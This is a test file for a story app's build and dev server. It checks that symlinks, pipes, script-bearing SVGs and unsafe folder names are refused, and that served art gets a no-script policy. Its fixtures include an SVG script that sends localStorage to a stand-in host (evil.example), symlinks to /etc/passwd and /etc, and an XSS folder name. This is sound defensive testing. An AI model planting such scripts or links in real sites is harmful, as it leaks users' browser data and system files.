/**
 * What is served and read is a plain file: links under public/ or stories/ (which put any file of the machine into
 * dist/ and the offline cache), pipes and devices (which keep a tool waiting forever), unsafe art and story folders
 * whose names are not story IDs are refused by the checker and by the build, naming the file.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { build, createServer } from 'vite';
import { afterAll, describe, expect, it } from 'vitest';
import { servedProblems, storiesProblems } from '../../tools/plain-files';
import { summarize } from '../../tools/vite-story-summaries';

const root = join(import.meta.dirname, '..', '..');
const scratch = mkdtempSync(join(tmpdir(), 'komik-saku-served-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const sampleStory = readFileSync(join(root, 'stories', 'sample', 'story.json'), 'utf8');
const found = (problems: { file: string; code: string; message: string }[]) =>
  problems.map((problem) => `${problem.file} [${problem.code}] ${problem.message}`);

/** A public/ folder as an author might leave it: good art next to every kind of bad file. */
function publicFolder(name: string): string {
  const dir = join(scratch, name);
  mkdirSync(join(dir, 'panels', 'tale'), { recursive: true });
  cpSync(join(root, 'public', 'panels', 'sample', 'warung-1.svg'), join(dir, 'panels', 'tale', 'good.svg'));
  writeFileSync(join(dir, 'panels', 'CREDITS.md'), 'Drawn by the kit.');
  writeFileSync(
    join(dir, 'panels', 'tale', 'evil.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg">\n<script>fetch("//evil.example/?" + JSON.stringify(localStorage))</script></svg>',
  );
  writeFileSync(join(dir, 'panels', 'tale', 'page.html'), '<script>alert(1)</script>');
  symlinkSync('/etc/hostname', join(dir, 'panels', 'tale', 'hostname.svg'));
  symlinkSync('/etc', join(dir, 'panels', 'system'));
  execFileSync('mkfifo', [join(dir, 'panels', 'tale', 'pipe.svg')]);
  return dir;
}

describe('served files (public/)', () => {
  it('refuses links, pipes, unsafe art and pages in the art folders; keeps art and notes', () => {
    const dir = publicFolder('public-a');
    expect(found(servedProblems(dir, 'public'))).toEqual([
      'public/panels/system [not-a-plain-file] This is a link (to /etc), not a file of its own: a link can bring any file of the machine into the app, so links are refused. Copy the file here instead.',
      'public/panels/tale/evil.svg [unsafe-art] Line 2, column 1: <script> is not allowed: it runs code.',
      'public/panels/tale/hostname.svg [not-a-plain-file] This is a link (to /etc/hostname), not a file of its own: a link can bring any file of the machine into the app, so links are refused. Copy the file here instead.',
      "public/panels/tale/page.html [not-art] Only art (.svg, .png, .jpg, .webp) and notes (.md, .txt) belong in an art folder, where they are served as the app's own files.",
      'public/panels/tale/pipe.svg [not-a-plain-file] This is not a regular file (a pipe, socket or device): reading it could wait forever, so it is refused.',
    ]);
  });

  it('passes the bundled public/ folder', () => {
    expect(servedProblems(join(root, 'public'), 'public')).toEqual([]);
  });

  it('stops the build before anything is built from them, naming each file', async () => {
    const dir = publicFolder('public-b');
    const outDir = join(scratch, 'dist-b');
    const built = build({ root, configLoader: 'runner', publicDir: dir, logLevel: 'silent', build: { outDir, emptyOutDir: true } });
    await expect(built).rejects.toThrow(/These files are not safe to serve, so the build stopped:\n.*public-b\/panels\/system: This is a link/);
    await expect(built).rejects.toThrow(/public-b\/panels\/tale\/evil\.svg: Line 2, column 1: <script> is not allowed: it runs code\./);
    await expect(built).rejects.toThrow(/public-b\/panels\/tale\/pipe\.svg: This is not a regular file/);
  }, 60_000);

  // A picture opened on its own is a document of its own: on `npm start` too, it may draw and do nothing else.
  it('the development server sends the art its policy as a header: no script, sandboxed', async () => {
    const server = await createServer({ root, configLoader: 'runner', logLevel: 'silent', server: { port: 0, host: '127.0.0.1', ws: false } });
    try {
      await server.listen();
      const served = (path: string) => fetch(new URL(path, server.resolvedUrls!.local[0]));
      for (const path of ['/panels/sample/warung-1.svg', '/icons/icon.svg', '/favicon.svg']) {
        const response = await served(path);
        expect(response.status, path).toBe(200);
        expect(response.headers.get('content-security-policy'), path).toMatch(/default-src 'none'.*script-src 'none'; sandbox$/);
        expect(response.headers.get('x-content-type-options'), path).toBe('nosniff');
      }
    } finally {
      await server.close();
    }
  }, 60_000);
});

describe('story folders (stories/)', () => {
  it('refuses links, pipes and folder names that are not story IDs (the build writes them into the page)', () => {
    const dir = join(scratch, 'stories-a');
    for (const folder of ['tale', 'Bad Name', 'a"><script>alert(1)<', 'constructor', 'lessons']) mkdirSync(join(dir, folder, 'i18n'), { recursive: true });
    writeFileSync(join(dir, 'tale', 'story.json'), sampleStory);
    symlinkSync('/etc/passwd', join(dir, 'tale', 'i18n', 'en.json'));
    execFileSync('mkfifo', [join(dir, 'constructor', 'story.json')]);
    symlinkSync(join(root, 'stories', 'sample'), join(dir, 'linked'));
    expect(found(storiesProblems(dir, 'stories'))).toEqual([
      'stories/Bad Name [bad-folder-name] The folder name "Bad Name" is not a story ID: use lower-case letters, digits and dashes (the folder\'s name is its story\'s ID).',
      'stories/a"><script>alert(1)< [bad-folder-name] The folder name "a"><script>alert(1)<" is not a story ID: use lower-case letters, digits and dashes (the folder\'s name is its story\'s ID).',
      'stories/constructor [bad-folder-name] The folder name "constructor" is not a story ID: use lower-case letters, digits and dashes (the folder\'s name is its story\'s ID).',
      'stories/constructor/story.json [not-a-plain-file] This is not a regular file (a pipe, socket or device): reading it could wait forever, so it is refused.',
      expect.stringMatching(/^stories\/linked \[not-a-plain-file\] This is a link \(to .*stories\/sample\)/),
      'stories/tale/i18n/en.json [not-a-plain-file] This is a link (to /etc/passwd), not a file of its own: a link can bring any file of the machine into the app, so links are refused. Copy the file here instead.',
    ]);
  });

  it('passes the bundled stories/ folder', () => {
    expect(storiesProblems(join(root, 'stories'), 'stories')).toEqual([]);
  });

  it("lists a story whose ID is not its folder as broken (it would read and overwrite that story's progress)", () => {
    const dir = join(scratch, 'stories-b');
    mkdirSync(join(dir, 'copy'), { recursive: true });
    writeFileSync(join(dir, 'copy', 'story.json'), sampleStory);
    mkdirSync(join(dir, 'piped'), { recursive: true });
    execFileSync('mkfifo', [join(dir, 'piped', 'story.json')]);
    // Read without waiting on the pipe: the library lists both as broken.
    expect(summarize(dir)).toEqual([
      { ok: false, id: 'copy', file: 'stories/copy/story.json' },
      { ok: false, id: 'piped', file: 'stories/piped/story.json' },
    ]);
  });
});
